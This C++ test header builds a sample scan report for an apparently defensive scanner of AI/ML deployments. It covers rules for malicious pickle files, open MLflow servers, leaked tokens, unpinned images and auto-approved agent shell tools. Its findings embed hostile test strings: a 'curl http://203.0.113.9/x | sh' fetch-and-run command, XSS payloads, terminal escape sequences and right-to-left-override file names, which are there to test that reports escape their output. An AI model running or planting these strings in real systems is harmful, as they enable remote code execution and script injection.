#pragma once
// The standard scan that report tests write: every state, every severity, and strings as hostile as
// file names can be.
#include <algorithm>
#include <set>
#include <string>

#include "base/hash.h"
#include "base/text.h"
#include "model/scan.h"
#include "support/sample_techniques.h"

namespace parapet::test {

inline RuleCard sample_rule(std::string id, std::string title, Severity severity,
                            std::vector<std::string> techniques, std::vector<std::string> phases,
                            std::vector<std::string> cwe = {}) {
  RuleCard r;
  r.category = id.substr(0, id.find('/'));
  r.id = std::move(id);
  r.title = std::move(title);
  r.severity = severity;
  r.confidence = Confidence::high;
  r.techniques = std::move(techniques);
  r.phases = std::move(phases);
  r.cwe = std::move(cwe);
  r.mitigations = {"AML.M0005", "AML.M0014"};
  r.references = {"https://example.org/a?b=1&c=<d>"};
  return r;
}

inline Finding sample_finding(const RuleCard& rule, std::string artifact, Place place,
                              std::string message, std::string evidence) {
  Finding f;
  f.id = hex16(fnv1a(rule.id + artifact + message));
  f.rule = rule.id;
  f.title = rule.title;
  f.severity = rule.severity;
  f.confidence = rule.confidence;
  f.message = std::move(message);
  f.artifact = std::move(artifact);
  f.place = std::move(place);
  f.evidence = std::move(evidence);
  if (f.place.line != 0) {
    f.region = {f.place.line, f.place.column, f.place.line,
                f.place.column + static_cast<std::uint32_t>(f.place.length)};
    f.line_hash = "a7f2ff13bc495cf2:" + std::to_string(f.place.line);
  }
  return f;
}

inline void add_techniques(Scan& scan) {
  scan.tactics = {{"AML.TA0002", "Reconnaissance"},
                  {"AML.TA0003", "Resource Development"},
                  {"AML.TA0004", "Initial Access"},
                  {"AML.TA0000", "AI Model Access"},
                  {"AML.TA0005", "Execution"},
                  {"AML.TA0006", "Persistence"},
                  {"AML.TA0012", "Privilege Escalation"},
                  {"AML.TA0007", "Defense Evasion"},
                  {"AML.TA0013", "Credential Access"},
                  {"AML.TA0008", "Discovery"},
                  {"AML.TA0015", "Lateral Movement"},
                  {"AML.TA0009", "Collection"},
                  {"AML.TA0001", "AI Attack Staging"},
                  {"AML.TA0014", "Command and Control"},
                  {"AML.TA0010", "Exfiltration"},
                  {"AML.TA0011", "Impact"}};
  for (const auto& s : sample_techniques) {
    TechniqueCard t;
    t.id = s.id, t.name = s.name, t.parent = s.parent, t.maturity = s.maturity;
    t.category = s.category.substr(
        s.category.find('/') == std::string_view::npos ? 0 : s.category.find('/') + 1);
    for (auto tactic : split(s.tactics, ';')) t.tactics.push_back("AML." + std::string(tactic));
    for (char p : s.phases)
      t.phases.push_back(p == 'd'   ? "design-setup"
                         : p == 'e' ? "development-evaluation"
                                    : "operations");
    t.mitigations = {"AML.M0005"};
    scan.techniques.push_back(std::move(t));
  }
}

inline void add_rules(Scan& scan) {
  auto pickle = sample_rule("model-integrity/pickle_call", "Model file runs code when it is loaded",
                            Severity::critical, {"AML.T0011.000", "AML.T0010.003", "AML.T0018.002"},
                            {"development-evaluation", "operations"}, {"CWE-502"});
  pickle.why =
      "Loading this file imports and calls a function of the attacker's choice with the rights of "
      "whoever loads "
      "it: a training job, a notebook, a serving container. No other step is needed.";
  pickle.fix =
      "Do not load it. Find out where it came from, publish weights as safetensors, and load with "
      "torch.load(weights_only=True) until then.";
  auto mlflow = sample_rule(
      "insecure-accounts/mlflow_open", "MLflow tracking server accepts anyone who can reach it",
      Severity::high, {"AML.T0012", "AML.T0049"}, {"development-evaluation"}, {"CWE-306"});
  mlflow.why =
      "Whoever reaches the port may read every experiment and register model versions that serving "
      "will load.";
  mlflow.fix =
      "Start it with --app-name basic-auth, or put an authenticating proxy in front and bind to "
      "loopback.";
  auto secret =
      sample_rule("unsecured-credentials/token_in_source", "Access token of a model hub in a file",
                  Severity::high, {"AML.T0055"}, {"development-evaluation"}, {"CWE-798"});
  secret.why = "Everyone who can read the repository, now or in its history, can use the token.";
  secret.fix = "Revoke it, then hand it in by the environment from a secret store.";
  auto image = sample_rule("pipeline-infrastructure/mutable_image",
                           "Image is named by a tag that can be moved", Severity::medium,
                           {"AML.T0010.001"}, {"operations"}, {"CWE-829"});
  image.why = "What runs tomorrow is whatever the tag points to tomorrow.";
  image.fix = "Pin the digest: image@sha256:...";
  image.confidence = Confidence::medium;
  auto agent = sample_rule("deployment-runtime/tool_without_approval",
                           "Agent may call a shell tool without being asked", Severity::low,
                           {"AML.T0053", "AML.T0051.001"}, {"operations"});
  agent.why = "Text that the agent reads can make it run commands.";
  agent.fix = "Take the tool out of the auto-approve list.";
  auto paper =
      sample_rule("preparation/stack_disclosed", "Documentation names the model that is served",
                  Severity::info, {"AML.T0000", "AML.T0002"}, {"design-setup"});
  paper.why = "It tells an attacker which public model to prepare on.";
  paper.fix = "Leave architecture and data lineage out of public pages.";
  paper.confidence = Confidence::low;
  scan.rules = {paper, pickle, mlflow, secret, image, agent};
  std::sort(scan.rules.begin(), scan.rules.end(),
            [](const auto& a, const auto& b) { return a.id < b.id; });
}

inline void add_findings(Scan& scan) {
  auto rule = [&](std::string_view id) -> const RuleCard& { return *scan.rule(id); };
  auto add = [&](Finding f) { scan.findings.push_back(std::move(f)); };
  const auto& pickle = rule("model-integrity/pickle_call");
  add(sample_finding(pickle, "models/fraud.zip!/archive/data.pkl", {142, 38, 0, 0, {}},
                     "Loading calls os.system with 'curl http://203.0.113.9/x | sh'.",
                     "REDUCE os.system('curl http://203.0.113.9/x | sh')"));
  add(sample_finding(pickle, "models/\x1b[2J\x07</script><script>alert(1)</script>.pkl",
                     {2, 20, 0, 0, {}}, "Loading calls builtins.eval with \"__import__('os')\".",
                     "eval(\"<img src=x onerror=alert(1)>\")"));
  add(sample_finding(pickle, "models/\xE2\x80\xAEgnp.lkp", {0, 12, 0, 0, {}},
                     "Loading calls posix.system.",
                     "posix.system \xC2\x9B"
                     "31m \"quotes\" 'single' & \\ back"));
  for (int i = 0; i < 18; ++i)
    add(sample_finding(pickle, "models/shards/part-" + std::to_string(10 + i) + ".pkl",
                       {64, 30, 0, 0, {}}, "Loading calls nt.system.", "nt.system('calc')"));
  const auto& mlflow = rule("insecure-accounts/mlflow_open");
  auto open = sample_finding(
      mlflow, "deploy/compose.yaml", {410, 27, 19, 14, "services.mlflow.command"},
      "mlflow server listens on every interface without an authentication app.",
      "mlflow server --host 0.0.0.0 --backend-store-uri postgresql://mlflow:s3cr\xE2\x80\xA6"
      "et@db/mlflow");
  open.severity = Severity::critical;
  open.severity_why = "raised: the port is published to the network";
  for (unsigned i = 0; i < 5; ++i)
    open.related.push_back({"deploy/compose.yaml",
                            {500 + 10 * i, 4, 22 + i, 9, {}},
                            "port 500" + std::to_string(i) + " published"});
  scan.findings.insert(scan.findings.begin(), std::move(open));
  add(sample_finding(mlflow, "k8s/mlflow deployment #1 \xC3\xA9%.yaml",
                     {99, 5, 7, 3, "spec.template.spec.containers[0].args"},
                     "mlflow ui without an authentication app.", "mlflow ui --host 0.0.0.0"));
  const auto& secret = rule("unsecured-credentials/token_in_source");
  add(sample_finding(secret, "notebooks/train.ipynb", {2048, 37, 88, 21, "cells[4].source"},
                     "A Hugging Face token stands in a code cell.",
                     "HF_TOKEN = \"hf_Q\xE2\x80\xA6"
                     "xZ\""));
  const auto& image = rule("pipeline-infrastructure/mutable_image");
  for (int i = 0; i < 5; ++i)
    add(sample_finding(image, "k8s/serve-" + std::to_string(i) + ".yaml",
                       {120, 22, 11, 16, "spec.containers[0].image"},
                       "The image vllm/vllm-openai:latest has no digest.",
                       "image: vllm/vllm-openai:latest"));
  add(sample_finding(
      rule("deployment-runtime/tool_without_approval"), std::string(300, 'n') + "/mcp.json",
      {33, 12, 4, 5, "mcpServers.shell.autoApprove"},
      "The tool run_command is approved beforehand.", "\"autoApprove\": [\"run_command\"]"));
  add(sample_finding(rule("preparation/stack_disclosed"), "README.md", {10, 40, 3, 1, {}},
                     "The page names the base model and its data.",
                     "Served by \xF0\x9F\xA4\x97 Llama fine-tuned on tickets-2025"));
  auto accepted = sample_finding(secret, "tests/fixtures/token.txt", {0, 37, 1, 1, {}},
                                 "A token stands in a test fixture.", "hf_T\xE2\x80\xA6st");
  accepted.suppression = {"comment", "a token of the test server", "2031-01-31",
                          "tests/fixtures/token.txt:1"};
  scan.suppressed.push_back(std::move(accepted));
}

inline void add_coverage(Scan& scan) {
  int n = 0;
  for (const auto& t : scan.techniques)
    for (const auto& phase : t.phases) {
      Coverage c;
      c.technique = t.id, c.name = t.name, c.tactic = t.tactics.front(), c.phase = phase;
      for (const auto& f : scan.findings) {
        const auto& rule = *scan.rule(f.rule);
        if (std::find(rule.techniques.begin(), rule.techniques.end(), t.id) !=
                rule.techniques.end() &&
            std::find(rule.phases.begin(), rule.phases.end(), phase) != rule.phases.end())
          c.findings.push_back(f.id);
      }
      if (!c.findings.empty()) {
        c.state = Coverage::State::exposed;
        c.why = std::to_string(c.findings.size()) + " findings of rules for it";
      } else if (t.maturity == "realized" && ++n % 4 == 0) {
        c.state = Coverage::State::guarded;
        c.why = "2 rules looked at 31 facts and a control was seen";
        c.controls = {"network-policy at k8s/policy.yaml:3"};
      } else if (t.category != "preparation" && t.id.back() % 2 == 0) {
        c.state = Coverage::State::not_seen;
        c.why = "3 rules looked at 58 process, container and import facts";
      } else {
        c.why = "nothing in files can show it";
      }
      scan.coverage.push_back(std::move(c));
    }
}

inline Scan sample_scan() {
  Scan s;
  s.tool_version = "0.1.0";
  s.atlas_version = "5.6.0";
  s.targets = {"demo/estate", "models/\"quoted\" \xE2\x80\xAE.zip"};
  s.categories = {{"social-engineering", "Social engineering"},
                  {"unsecured-credentials", "Unsecured credentials"},
                  {"insecure-accounts", "Insecure accounts"},
                  {"physical-access", "Physical access"},
                  {"data-integrity", "Data integrity"},
                  {"model-integrity", "Model integrity"},
                  {"pipeline-infrastructure", "Pipeline infrastructure"},
                  {"network-exploitation", "Network exploitation"},
                  {"deployment-runtime", "Deployment and runtime"},
                  {"preparation", "Preparation"}};
  s.phases = {{"design-setup", "Design and setup"},
              {"development-evaluation", "Development and evaluation"},
              {"operations", "Operations"}};
  s.mitigations = {{"AML.M0005", "Control Access to AI Models and Data at Rest"},
                   {"AML.M0014", "Verify AI Artifacts"}};
  add_techniques(s);
  add_rules(s);
  add_findings(s);
  add_coverage(s);
  std::set<std::string> seen;
  for (const auto& f : s.findings)
    if (seen.insert(f.artifact).second)
      s.artifacts.push_back({f.artifact,
                             {f.place.line != 0 ? "yaml" : "pickle"},
                             4096,
                             std::string(64, 'a'),
                             {},
                             {}});
  for (int i = 0; i < 14; ++i)
    s.artifacts.push_back({"weights/shard-" + std::to_string(10 + i) + ".gguf",
                           {"gguf"},
                           1'500'000'000,
                           {},
                           ScannedArtifact::Status::partly,
                           "tensor table cut off at offset 4096"});
  s.artifacts.push_back({"secrets/locked \x1b]0;owned\x07.bin",
                         {},
                         0,
                         {},
                         ScannedArtifact::Status::not_scanned,
                         "open: Permission denied"});
  std::sort(s.artifacts.begin(), s.artifacts.end(),
            [](const auto& a, const auto& b) { return a.path < b.path; });
  s.stats = {s.artifacts.size(), 40, 21'000'004'096, 35'000'000'000, 5120, 14, 1};
  s.notes = {"ATLAS file repaired: 2 mitigations stood under the wrong key."};
  return s;
}

// A scan that found nothing, with things it could not read.
inline Scan empty_scan() {
  Scan s = sample_scan();
  s.findings.clear();
  s.suppressed.clear();
  s.notes.clear();
  for (auto& c : s.coverage) {
    if (c.state == Coverage::State::exposed)
      c.state = Coverage::State::not_seen, c.why = "2 rules looked at 12 facts";
    c.findings.clear();
  }
  return s;
}

}  // namespace parapet::test
